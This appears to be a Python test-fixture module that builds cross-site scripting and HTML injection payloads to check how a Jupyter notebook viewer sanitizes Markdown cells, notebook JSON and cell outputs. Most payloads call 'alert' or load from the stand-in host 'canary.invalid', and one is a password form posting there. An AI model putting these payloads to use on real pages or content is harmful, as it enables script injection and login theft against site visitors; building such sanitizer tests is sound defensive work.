"""What a page could be made to do with, each way in a cell of its own: a script that calls ``alert`` with the way's name, a request
to ``canary.invalid``, a style, a form, an overlay. None addresses a machine that exists.

| what | where it stands in a notebook |
| --- | --- |
| `WORDS` | in a Markdown cell |
| `ODD` | in the JSON of a cell, or of the notebook |
| `CODE` | in what a cell prints, displays or raises |
"""

import base64
import copy

HOST = "http://canary.invalid"


def alert(name):
    return f"alert('{name}')"


def image(name):
    return f'<img src="x" onerror="{alert(name)}">'


def page(name):
    return base64.b64encode(f"<script>top.{alert(name)}</script>".encode()).decode()


# In double quotes, as CommonMark asks of an attribute that holds an apostrophe: without them it is text already.
WORDS = {
    "script": f"<script>{alert('script')}</script>",
    "script-elsewhere": f'<script src="{HOST}/script-elsewhere.js"></script>',
    "onerror": image("onerror"),
    "onload": f'<svg onload="{alert("onload")}">',
    "svg-script": f"<svg><script>{alert('svg-script')}</script></svg>",
    "svg-style": f"<svg></p><style><a title='</style>{image('svg-style')}'>",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{alert("svg-animate")}" /><text y=20>svg-animate</text></a></svg>',
    "svg-use": f"<svg><image href='{HOST}/svg-use.png' /></svg>",
    "math-style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{image('math-style')}'>",
    "math-link": f'<math><maction actiontype=statusline href="javascript:{alert("math-link")}">math-link</maction></math>',
    "noscript": f"<noscript><p title='</noscript>{image('noscript')}'>",
    "comment": f'<!--><img src=x onerror="{alert("comment")}">-->',
    "comment-bang": f"<!-- --!>{image('comment-bang')} -->",
    "cdata": f"<svg><![CDATA[><image xlink:href=']]>{image('cdata')}//'></svg>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>top.{alert("iframe-srcdoc")}</script>"></iframe>',
    "iframe-script": f'<iframe src="javascript:top.{alert("iframe-script")}"></iframe>',
    "iframe-elsewhere": f'<iframe src="{HOST}/iframe-elsewhere"></iframe>',
    "object": f'<object data="data:text/html;base64,{page("object")}"></object><object data="{HOST}/object"></object>',
    "embed": f'<embed src="{HOST}/embed.swf">',
    "link-script": f"[link-script](javascript:{alert('link-script').replace('(', '%28').replace(')', '%29')})",
    "link-encoded": f'<a href="&#106;ava&#9;script:{alert("link-encoded")}">link-encoded</a>',
    "link-reference": "[link-reference][r]\n\n[r]: javascript:alert(1)",
    "link-data": f"[link-data](data:text/html;base64,{page('link-data')})",
    "link-bare": "<javascript:alert(1)> link-bare",
    "link-beside": "[link-beside](evil.html) and [up](/shutdown)",
    "refresh": f'<meta http-equiv="refresh" content="0; url={HOST}/refresh">',
    "base": f'<base href="{HOST}/base/">',
    "repaint": "<style>body, header { display: none !important; }</style> repaint",
    "repaint-import": f"<style>@import '{HOST}/repaint-import.css';</style>",
    "stylesheet": f'<link rel="stylesheet" href="{HOST}/stylesheet.css">',
    "prefetch": f'<link rel="prefetch" href="{HOST}/prefetch"><link rel="dns-prefetch" href="{HOST}">',
    "overlay": '<div style="position:fixed; inset:0; background:red; z-index:9999">overlay</div>',
    "style-picture": f'<p style="background:url({HOST}/style-picture.png)">style-picture</p>',
    "classes": '<div class="navbar-fixed-top help" id="statusmessage">classes</div>',
    "password": f'<form action="{HOST}/password"><input type="password" name="p"><button>password</button></form>',
    "autofocus": f'<input autofocus onfocus="{alert("autofocus")}">',
    "button": f'<button formaction="javascript:{alert("button")}" type=submit>button</button>',
    "toggle": f'<details open ontoggle="{alert("toggle")}">toggle</details>',
    "video": f'<video src=x onerror="{alert("video")}"></video><audio src=x onerror="{alert("video")}"></audio>',
    "video-poster": f'<video poster="{HOST}/video-poster.png"></video>',
    "marquee": f'<marquee onstart="{alert("marquee")}">marquee</marquee>',
    "animation": f'<style>@keyframes k {{}}</style><b style="animation:k 1s" onanimationstart="{alert("animation")}">animation</b>',
    "picture": f"![picture]({HOST}/picture.png)",
    "picture-set": f'<picture><source srcset="{HOST}/picture-set.png"><img src=x></picture>',
    "picture-svg": f"![picture-svg](data:image/svg+xml;base64,{page('picture-svg')})",
    "picture-quote": f'![picture-quote](x"onerror="{alert("picture-quote").replace("(", "%28").replace(")", "%29")})',
    "picture-alternative": f'![x" onerror="{alert("picture-alternative")}](x.png)',
    "title-quote": f"[title-quote]({HOST} 'x\" onmouseover=\"{alert('title-quote')}')",
    "table": f"|{image('table')}|b|\n|-|-|\n|1|2|",
    "list": f"- > 1. {image('list')}",
    "heading": f"# {image('heading')}",
    "fence": f'```"><img src=x onerror="{alert("fence")}">\nfence\n```',
    "fence-language": f"```html\n{image('fence-language')}\n```",
    "mermaid": f"```mermaid\n{image('mermaid')}\n```",
    "formula-link": r"$\href{javascript:alert(1)}{formula-link}$",
    "formula-style": r"$\style{position:fixed}{formula-style} \class{help}{x} \cssId{notebook}{y}$",
    "formula-picture": f"$$x {image('formula-picture')}$$",
    "formula-environment": f"\\begin{{align}}{image('formula-environment')}\\end{{align}}",
    "clobber": '<img name="getElementById"><form id="document"><input name="body"></form><a id="check_relu">clobber</a>',
    "template": f"<template><script>{alert('template')}</script></template><slot>template</slot>",
    "shadow": f"<div><template shadowrootmode=open>{image('shadow')}</template></div>",
    "jinja": "{{ 7 * 7 }}{% raw %} jinja",
    "closes-all": f"</pre></div></section></main></body></html><script>{alert('closes-all')}</script>",
    "opens-title": "<title>opens-title",
    "opens-textarea": "<textarea>opens-textarea",
    "opens-comment": "<!-- opens-comment",
    "opens-plaintext": "<plaintext>opens-plaintext",
    "turned": "turned \u202e\u2066 <b>round</b> \u200b",
}

_live = f"<script>{alert('odd')}</script>{image('odd')}"
_outputs = [
    {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}}, "data": {kind: _live}}
    for kind in (
        "text/html",
        "image/svg+xml",
        "text/markdown",
        "application/javascript",
        "text/latex",
        "image/png",
        "text/vnd.mermaid",
    )
] + [
    {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{_live}\x1b[0m"},
    {"output_type": "error", "ename": _live, "evalue": _live, "traceback": [f"\x1b[1;31m{_live}"]},
    {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": _live, "text/html": _live}},
]
_view = {"output_type": "display_data", "metadata": {}, "data": {"application/vnd.jupyter.widget-view+json": {"model_id": _live}}}


def _cell(cell_type="markdown", **more):
    return {"cell_type": cell_type, "id": "odd", "metadata": {}, "source": "odd", **more}


# name -> what is done to the notebook's JSON
ODD = {
    "attachment": lambda nb: nb["cells"].append(
        _cell(source="![odd](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": page("odd"), "text/html": page("odd")}})
    ),
    "raw-cell": lambda nb: nb["cells"].append(_cell("raw", source=_live, metadata={"raw_mimetype": "text/html"})),
    "outputs": lambda nb: nb["cells"].append(_cell("code", source="1", outputs=_outputs, execution_count=1)),
    "widget-view": lambda nb: nb["cells"].append(_cell("code", source="1", outputs=[_view], execution_count=1)),
    "cell-metadata": lambda nb: nb["cells"].append(
        _cell(id=f'"><{_live}', metadata={"tags": [f'"><{_live}'], "name": _live, "nbgrader": {"grade_id": _live, "points": _live}})
    ),
    "title": lambda nb: nb["metadata"].update(title=f"</title>{_live}", authors=[{"name": _live}]),
    "kernel": lambda nb: nb["metadata"].update(
        kernelspec={"name": _live, "display_name": _live, "language": _live},
        language_info={"name": _live, "pygments_lexer": _live, "version": _live},
    ),
    "widget-state": lambda nb: nb["metadata"].update(
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"a": f"</script>{_live}"}, "version_major": 2}}
    ),
}
CODE = {
    "prints": f"print({image('prints')!r}, '\\x1b[31mred\\x1b[0m \\x1b]8;;{HOST}\\x07link \\u202e')",
    "displays": f"class Odd:\n    def _repr_html_(self):\n        return {image('displays')!r}\nOdd()",
    "raises": f"raise type({image('raises')!r}, (Exception,), {{}})({image('raises')!r} + '\\x1b[2J')",
    "names": f"x = {image('names')!r}  # </pre></div>{image('names')}\n</script>",
}


def with_cells(right, cells):
    """A right notebook's JSON with cells of these (type, source) behind it."""
    nb = copy.deepcopy(right)
    for number, (kind, source) in enumerate(cells):
        more = {"outputs": [], "execution_count": None} if kind == "code" else {}
        nb["cells"].append({"cell_type": kind, "id": f"weapon-{number}", "metadata": {}, "source": source, **more})
    return nb
